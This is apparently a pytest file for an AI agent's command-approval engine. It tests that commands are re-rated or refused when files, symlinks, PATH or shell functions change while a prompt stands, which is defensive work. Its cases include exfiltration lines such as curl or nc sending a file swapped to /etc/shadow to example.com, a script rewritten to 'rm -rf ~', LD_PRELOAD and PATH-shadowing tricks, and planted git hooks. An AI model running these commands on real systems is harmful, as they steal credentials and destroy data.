"""What a rating stood on changes while the prompt stands: nothing runs on the old rating, and what does not matter asks nothing."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from msgspec.structs import replace as with_field

from agent.engine.context import RequestContext
from agent.engine.engine import Engine
from agent.engine.goal_loop import GoalLoop
from agent.planner.facts.facts import SystemFacts
from agent.policy.deciding import decide
from agent.policy.model import Policy, PolicyFile, Rule
from agent.protocol.confirmations import Approved, CancelGoal, Commit, ConfirmationRequest, EditAgain, Rehearse
from agent.protocol.events.command import CommandConfirmed, CommandRated
from agent.protocol.events.session import Warned
from agent.protocol.messages import CommandItem, UserInput
from agent.protocol.records import decode, encode
from agent.protocol.rehearsals import UndoPlan
from agent.protocol.requests import Approval, RunOptions, RunRequest
from agent.recording.fold import history
from agent.risk.classifier import classify
from tests.support.fake_rehearser import FakeCheckpoints, FakeRehearser, FakeReviewer
from tests.support.fakes import FakeEmitter, FakeExecutor, FakePlanner, FakeRecorder, FakeRedactor, make_app, say

Act = Callable[[], object]


class Busy(FakeReviewer):
    """Agrees to everything; `acts` happen, in order, while each prompt stands (`at_word`: while the word is asked for)."""

    def __init__(self, *acts: Act, at_word: Act | None = None) -> None:
        super().__init__(reviews=(Commit(),))
        self.acts = list(acts)
        self.at_word = at_word

    async def confirm(self, request: ConfirmationRequest):
        self.asked.append(request)
        if self.acts:
            self.acts.pop(0)()
        assert len(self.asked) < 10
        return Approved(command=request.draft or request.proposal.command)

    async def ask_word(self, request: ConfirmationRequest) -> str:
        self.asked_words.append(request)
        if self.at_word is not None:
            act, self.at_word = self.at_word, None
            act()
        return "proceed"


class Shell(FakeExecutor):
    """Keeps with each run what the file `x.sh` held at that moment."""

    async def execute(self, command, sink, cancel):
        path = Path(self.cwd, "x.sh")
        self.contents = path.read_text() if path.is_file() else ""
        return await super().execute(command, sink, cancel)


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("PATH", f"{tmp_path}/first:{os.environ['PATH']}")
    for name in ("home", "src", "build", "sub", ".git"):
        (tmp_path / name).mkdir()
    for name in ("x.sh", "lib.sh", "x.py", "sub/y.sh", "run"):
        (tmp_path / name).write_text("echo checked\n")
        (tmp_path / name).chmod(0o755)
    (tmp_path / "use.py").write_text("import json\nimport part\n")
    (tmp_path / "part.py").write_text("x = 1\n")
    (tmp_path / "Makefile").write_text("all:\n\ttrue\n")
    (tmp_path / "package.json").write_text('{"scripts": {"build": "true"}}')
    (tmp_path / "src/a.txt").write_text("a\n")
    (tmp_path / "build/old.o").write_text("o\n")
    (tmp_path / "notes").write_text("n\n")
    (tmp_path / "log").write_text("one\n")
    (tmp_path / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (tmp_path / ".git/objects").mkdir()
    (tmp_path / ".git/refs").mkdir()
    return tmp_path


def go(
    place: Path,
    command: str,
    person: FakeReviewer,
    *,
    checkpoints=None,
    rehearser=None,
    facts=None,
    executor: FakeExecutor | None = None,
    rules=(),
    **approval,
):
    executor = executor or Shell(cwd=str(place))
    app = with_field(
        make_app(FakePlanner(say())),
        classify=classify,
        decide=lambda report, given, policy: decide(report, given, policy=policy),
        facts=facts or SystemFacts(),
        policy=lambda cwd, session: Policy(files=(PolicyFile(path="/policy.toml", trust="user", rules=tuple(rules)),)),
    )
    log = FakeRecorder()
    context = RequestContext(
        recorder=log,
        planner=FakePlanner(say()),
        redactor=FakeRedactor(),
        strategy=GoalLoop(),
        executor=executor,
        checkpoints=checkpoints,
        rehearser=rehearser,
    )
    request = RunRequest(input=UserInput.from_shell(command), options=RunOptions(approval=Approval(**approval)))
    asyncio.run(Engine(app).run(context, request, FakeEmitter(), person))
    return executor, log


def other_text(name: str) -> Act:
    """The same size, and the same times as before."""

    def act() -> None:
        found = os.stat(name)
        text = Path(name).read_text()
        Path(name).write_text("x" * len(text))
        os.utime(name, ns=(found.st_atime_ns, found.st_mtime_ns))

    return act


def swapped(name: str, target: str) -> Act:
    """A link in the place of what was there."""

    def act() -> None:
        os.rename(name, f"{name}.away")
        os.symlink(target, name)

    return act


def other_folder(name: str) -> Act:
    def act() -> None:
        os.rename(name, f"{name}.away")
        os.mkdir(name)

    return act


def made(name: str) -> None:
    Path(name).parent.mkdir(parents=True, exist_ok=True)
    Path(name).write_text("#!/bin/sh\n")
    Path(name).chmod(0o755)


def shadowed(name: str) -> Act:
    """A program of that name in the first folder of PATH."""
    return lambda: made(f"first/{name}")


CHANGES = [
    ("./x.sh", other_text("x.sh"), "x.sh has other contents"),
    ("bash x.sh", other_text("x.sh"), "x.sh has other contents"),
    ("sudo -u nobody env A=1 bash x.sh", other_text("x.sh"), "x.sh has other contents"),
    ("source lib.sh && echo done", other_text("lib.sh"), "lib.sh has other contents"),
    ("bash -c '. ./lib.sh; true'", other_text("lib.sh"), "lib.sh has other contents"),
    ("python3 x.py", other_text("x.py"), "x.py has other contents"),
    ("python3 -m x", other_text("x.py"), "x.py has other contents"),
    ("bash < x.sh", other_text("x.sh"), "x.sh has other contents"),
    ('eval "$(cat lib.sh)"', other_text("lib.sh"), "lib.sh has other contents"),
    ("ssh host bash < x.sh", other_text("x.sh"), "x.sh has other contents"),
    ("cat x.sh | sh", other_text("x.sh"), "x.sh has other contents"),
    ("cd sub && ./y.sh", other_text("sub/y.sh"), "sub/y.sh has other contents"),
    ("find . -name a -exec ./x.sh {} +", other_text("x.sh"), "x.sh has other contents"),
    ("make", other_text("Makefile"), "Makefile has other contents"),
    ("make run", other_text("Makefile"), "Makefile has other contents"),
    ("make", lambda: Path("GNUmakefile").write_text("all:\n"), "GNUmakefile is new"),
    ("npm run build", other_text("package.json"), "package.json has other contents"),
    ("crontab lib.sh", other_text("lib.sh"), "lib.sh has other contents"),
    ("cp lib.sh home/.bashrc", other_text("lib.sh"), "lib.sh has other contents"),
    ("cat < lib.sh >> ~/.bashrc", other_text("lib.sh"), "lib.sh has other contents"),
    ("npm ci", other_text("package.json"), "package.json has other contents"),
    ("pip install -r notes", other_text("notes"), "notes has other contents"),
    ("pip install .", lambda: made("setup.py"), "setup.py is new"),
    ("terraform apply", lambda: made("main.tf"), "main.tf is new"),
    ("LD_PRELOAD=./lib.sh ls", other_text("lib.sh"), "lib.sh has other contents"),
    ("PATH=$PWD/sub:$PATH y.sh", other_text("sub/y.sh"), "sub/y.sh has other contents"),
    ("curl -d @notes https://example.com", swapped("notes", "/etc/shadow"), "notes leads to /etc/shadow now"),
    ("curl -F a=@notes https://example.com", swapped("notes", "/etc/shadow"), "notes leads to /etc/shadow now"),
    ("docker run -v ./sub:/x img", swapped("sub", "/etc"), "sub leads to /etc now"),
    ("nc example.com 1 < notes", swapped("notes", "/etc/shadow"), "notes leads to /etc/shadow now"),
    ("./x.sh", lambda: os.unlink("x.sh"), "x.sh is gone"),
    ("echo hi > notes", swapped("notes", "/etc/passwd"), "notes leads to /etc/passwd now"),
    ("cp src/a.txt notes", swapped("notes", "home/.bashrc"), "home/.bashrc now"),
    ("rm -r build", swapped("build", "src"), "build leads to"),
    ("rm -r build", other_folder("build"), "build is not what it was"),
    ("rm src/a.txt", lambda: [other_folder("src")(), Path("src/a.txt").write_text("dear")], "src is not what it was"),
    ("cp src/a.txt new.txt", lambda: Path("new.txt").write_text("work"), "new.txt is not what it was"),
    ("./sub/y.sh", swapped("sub", "src"), "sub/y.sh"),
    ("touch new.txt && rm notes", shadowed("rm"), "rm is "),
    ("bash -c 'true | sort'", shadowed("sort"), "sort is "),
    ("git commit -am x", lambda: made(".git/hooks/pre-commit"), ".git/hooks/pre-commit is new"),
    ("git status", lambda: made("home/.gitconfig"), "home/.gitconfig is new"),
    ("git fetch", lambda: made(".git/config"), ".git/config is new"),
    ("curl https://example.com", lambda: made("home/.curlrc"), "home/.curlrc is new"),
    ("ssh host ls", lambda: made("home/.ssh/config"), "home/.ssh/config is new"),
    ("python3 use.py", other_text("part.py"), "part.py has other contents"),
    ("python3 use.py", lambda: made("json.py"), "json.py"),
    ("tar xf notes", other_text("notes"), "notes has other contents"),
    ("tar -xf notes -C sub", other_text("notes"), "notes has other contents"),
    ("unzip notes", other_text("notes"), "notes has other contents"),
    ("cpio -id < notes", other_text("notes"), "notes has other contents"),
    ("zcat notes | tar x", other_text("notes"), "notes has other contents"),
    ("patch -p1 < notes", other_text("notes"), "notes has other contents"),
    ("patch -p1 -i notes", other_text("notes"), "notes has other contents"),
    ("cat notes | patch -p1", other_text("notes"), "notes has other contents"),
    ("git apply notes", other_text("notes"), "notes has other contents"),
    ("git am < notes", other_text("notes"), "notes has other contents"),
    ("xargs rm < notes", other_text("notes"), "notes has other contents"),
    ("cat notes | xargs rm", other_text("notes"), "notes has other contents"),
    ("rm $(cat notes)", other_text("notes"), "notes has other contents"),
    ('while read f; do rm "$f"; done < notes', other_text("notes"), "notes has other contents"),
    ("wget -i notes", other_text("notes"), "notes has other contents"),
    ("rsync -a --files-from=notes src/ sub/", other_text("notes"), "notes has other contents"),
    ("tar cf all.tar -T notes", other_text("notes"), "notes has other contents"),
    ("bash *.sh", other_text("x.sh"), "x.sh has other contents"),
    ("for f in sub/*.sh; do bash $f; done", other_text("sub/y.sh"), "sub/y.sh has other contents"),
    ("for f in *.sh; do bash $f; done", lambda: made("a.sh"), "a.sh is new"),
    ("cp x.sh new.sh; bash new.sh", other_text("x.sh"), "x.sh has other contents"),
    ("ln -s x.sh new.sh && ./new.sh", other_text("x.sh"), "x.sh has other contents"),
    ("bash <(cat x.sh)", other_text("x.sh"), "x.sh has other contents"),
    ("git rm --pathspec-from-file=notes", other_text("notes"), "notes has other contents"),
]


@pytest.mark.few(15)
@pytest.mark.parametrize(("command", "act", "said"), CHANGES, ids=[f"{row[0]}: {row[2]}" for row in CHANGES])
def test_what_changed_while_the_prompt_stood_is_asked_for_again(place: Path, command, act, said) -> None:
    person = Busy(act)
    executor, log = go(place, command, person)
    assert len(person.asked) == 2
    assert person.asked[0].note == ""
    assert said in person.asked[1].note
    assert [event.stage for event in log.only(CommandRated)] == ["proposed", "again"]
    assert [run.command for run in executor.ran] == [command]


@pytest.mark.few(10)
@pytest.mark.parametrize(("command", "act", "said"), CHANGES, ids=[f"{row[0]}: {row[2]}" for row in CHANGES])
def test_it_runs_at_once_where_nothing_changed(place: Path, command, act, said) -> None:
    person = Busy()
    executor, _ = go(place, command, person)
    assert (len(person.asked), len(executor.ran)) == (1, 1)


def grown(name: str) -> Act:
    def act() -> None:
        with open(name, "a") as file:
            file.write("two\n")

    return act


@pytest.mark.parametrize(
    ("command", "act"),
    [
        ("./x.sh log", grown("log")),
        ("python3 x.py log", grown("log")),
        ("cat log | npm run build", grown("log")),
        ("cat log | python3 -c 'import os; os.system(\"ls\")'", grown("log")),
        ("cat /proc/uptime | sh", lambda: None),
        ("rm log", grown("log")),
        ("gzip log", grown("log")),
        ("tar cf a.tar log", grown("log")),
        ("git add log", grown("log")),
        ("tail -n 1 log | tee -a notes", grown("log")),
        ("python3 use.py", lambda: Path("other.py").write_text("x")),
        ("git status", lambda: made("home/.curlrc")),
        ("tar xf notes", grown("log")),
        ("rm -r build", lambda: Path("build/new.o").write_text("o")),
        ("make", lambda: Path("new.txt").write_text("n")),
    ],
)
def test_what_grows_or_is_only_touched_asks_nothing(place: Path, command: str, act: Act) -> None:
    person = Busy(act)
    executor, _ = go(place, command, person)
    assert (len(person.asked), len(executor.ran)) == (1, 1)


@pytest.mark.parametrize(("ago", "asked"), [(2, 1), (0, 2)])
def test_what_was_only_touched_asks_nothing_unless_it_was_just_now(
    place: Path, monkeypatch, ago: int, asked: int
) -> None:
    """Who changes a file and changes it back does so again, as soon as nobody looks."""
    monkeypatch.setattr("agent.planner.facts.regular_file._JUST_NOW", 0 if ago else 60_000_000_000)
    person = Busy(lambda: os.utime("x.sh"))
    executor, _ = go(place, "bash x.sh", person)
    assert (len(person.asked), len(executor.ran)) == (asked, 1)
    assert [request.note for request in person.asked[1:]] == [
        "not run: since it was rated, x.sh was written to just now"
    ] * (asked - 1)


class Swapping(Shell):
    """`act` happens when the command runs already."""

    def __init__(self, act: Act, **given) -> None:
        super().__init__(**given)
        self.act = act

    async def execute(self, command, sink, cancel):
        self.act()
        return await super().execute(command, sink, cancel)


def swapped_back(name: str) -> None:
    os.rename(name, f"{name}.away")
    Path(name).write_text("rm -rf ~\n")
    os.rename(f"{name}.away", name)


@pytest.mark.parametrize(
    ("command", "act", "told"),
    [
        ("bash x.sh", other_text("x.sh"), ["x.sh"]),
        ("bash x.sh", lambda: swapped_back("x.sh"), ["x.sh"]),
        ("python3 use.py", lambda: os.replace("x.py", "part.py"), ["part.py"]),
        ("bash x.sh", lambda: None, []),
        ("bash x.sh", lambda: made("sub/new"), []),
        ("git config --global a.b c", lambda: made("home/.gitconfig"), []),
    ],
)
def test_what_is_swapped_after_the_last_look_is_told(place: Path, command: str, act: Act, told: list[str]) -> None:
    _, log = go(place, command, Busy(), executor=Swapping(act, cwd=str(place)))
    words = [f"{name} changed as it ran: what ran may not be what was rated" for name in told]
    assert [event.text for event in log.only(Warned)] == words


def test_more_to_lose_is_asked_for_again(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("agent.planner.facts.path_facts.MAX_SECONDS", 30.0)
    person = Busy(lambda: [Path(f"build/{number}").touch() for number in range(1_200)])
    go(place, "rm -r build", person)
    assert "there is more to lose" in person.asked[1].note
    assert person.asked[1].report.level == "high"


def test_a_change_while_the_word_is_typed_counts_too(place: Path) -> None:
    person = Busy(at_word=other_text("x.sh"))
    executor, _ = go(place, "sudo rm -rf /opt/x; bash x.sh", person)
    assert "x.sh has other contents" in person.asked[1].note
    assert (len(person.asked_words), len(executor.ran)) == (2, 1)


def test_never_run_while_it_changes_at_every_look(place: Path) -> None:
    person = Busy(*[other_text("x.sh"), grown("x.sh"), grown("x.sh"), grown("x.sh"), grown("x.sh")])
    executor, _ = go(place, "bash x.sh", person)
    assert len(person.asked) == 6
    assert executor.contents == (place / "x.sh").read_text()


class Stirred(SystemFacts):
    """`act` happens after the first look."""

    def __init__(self, act: Act) -> None:
        super().__init__()
        self.act = act
        self.looks = 0

    def risk_context(self, command, cwd):
        self.looks += 1
        if self.looks == 2:
            self.act()
        return super().risk_context(command, cwd)


def test_what_would_have_run_unasked_is_asked_for(place: Path) -> None:
    person = Busy()
    executor, _ = go(place, "bash x.sh", person, facts=Stirred(other_text("x.sh")), mode="medium")
    assert len(person.asked) == 1
    assert "x.sh has other contents" in person.asked[0].note
    assert [run.consent.by for run in executor.ran] == ["person"]


def test_nobody_there_to_ask_so_it_does_not_run(place: Path) -> None:
    facts = Stirred(swapped("notes", "/etc/shadow"))
    executor, log = go(place, "cat notes", Busy(), facts=facts, mode="low", interactive=False)
    assert executor.ran == []
    decided = log.only(CommandConfirmed)[-1]
    assert (decided.decision, decided.by) == ("declined", "nobody")
    assert "notes leads to /etc/shadow now" in decided.remark


def test_the_pre_image_of_what_does_not_run_is_dropped(place: Path) -> None:
    checkpoints = FakeCheckpoints(UndoPlan(kept=(str(place / "notes"),), size=2))
    go(place, "echo hi > notes", Busy(swapped("notes", "log")), checkpoints=checkpoints)
    assert checkpoints.steps == ["take", "drop", "take", "finish"]


def test_a_rehearsal_is_not_begun_on_an_old_rating(place: Path) -> None:
    class Rehearsing(Busy):
        async def confirm(self, request):
            answer = await super().confirm(request)
            return Rehearse(command=answer.command)

    person = Rehearsing(other_text("x.sh"))
    rehearser = FakeRehearser()
    go(place, "bash x.sh", person, rehearser=rehearser)
    assert "x.sh has other contents" in person.asked[1].note
    assert len(rehearser.rehearsed) == 1


def test_what_an_earlier_rehearsal_showed_does_not_count_for_the_new_rating(place: Path) -> None:
    class Careful(Busy):
        async def confirm(self, request):
            answer = await super().confirm(request)
            return {1: Rehearse(command=answer.command), 3: CancelGoal()}.get(len(self.asked), answer)

        async def review(self, request, rehearsal):
            return EditAgain()

    person = Careful(lambda: None, other_text("x.sh"))
    _, log = go(place, "bash x.sh", person, rehearser=FakeRehearser())
    assert "x.sh has other contents" in person.asked[2].note
    (item,) = [
        item for item in history([decode(encode(record)) for record in log.records]) if isinstance(item, CommandItem)
    ]
    assert item.rehearsal == ""
    assert [event.stage for event in log.only(CommandRated)] == ["proposed", "again"]


@pytest.mark.parametrize(("body", "ran"), [("touch made", 1), ("rm -rf ~", 0)])
def test_definitions_of_the_shell_count(place: Path, body: str, ran: int) -> None:
    """What is refused as it stands now is refused."""
    executor = Shell(cwd=str(place))
    person = Busy(lambda: setattr(executor, "functions", f"ls () \n{{ \n    {body}\n}}\n"))
    _, log = go(place, "ls; bash x.sh", person, executor=executor)
    assert [event.report.level for event in log.only(CommandRated)] == ["medium", "medium" if ran else "high"]
    assert [request.note for request in person.asked[1:]] == [
        "not run: since it was rated, the shell's functions changed"
    ] * ran
    assert len(executor.ran) == ran


def test_no_log_keeps_identities(place: Path) -> None:
    _, log = go(place, "source lib.sh", Busy())
    (rated,) = log.only(CommandRated)
    assert rated.known is not None
    assert not hasattr(rated.known, "files")


@pytest.mark.parametrize(
    ("rule", "decisions"),
    [
        (Rule(name="no", action="deny", program=("rm",)), ["refused"]),
        (Rule(name="held", action="allow", program=("rm",), confine="no-network"), ["approved"]),
        (Rule(name="fine", action="allow", program=("rm",)), ["approved"]),
    ],
)
@pytest.mark.parametrize("rehearse", [False, True])
def test_a_rule_that_comes_while_the_question_stands_counts(place: Path, rule: Rule, decisions, rehearse: bool) -> None:
    """Another session, or whoever looks after the machine, wrote it: what lets less pass counts at once, what lets more asks nothing."""
    rules: list[Rule] = []
    person = Busy(lambda: rules.append(rule))
    rehearser = FakeRehearser() if rehearse else None
    executor, log = go(
        place, "rm notes", person, rules=rules, rehearser=rehearser, rehearse="ask" if rehearse else "off"
    )
    assert [event.decision for event in log.only(CommandConfirmed)] == decisions
    assert bool(executor.ran) == (decisions == ["approved"])
    assert len(person.asked) == (2 if rule.confine != "off" else 1)
    if decisions == ["refused"] or rule.confine != "off":
        assert log.only(CommandRated)[-1].stage == "again"
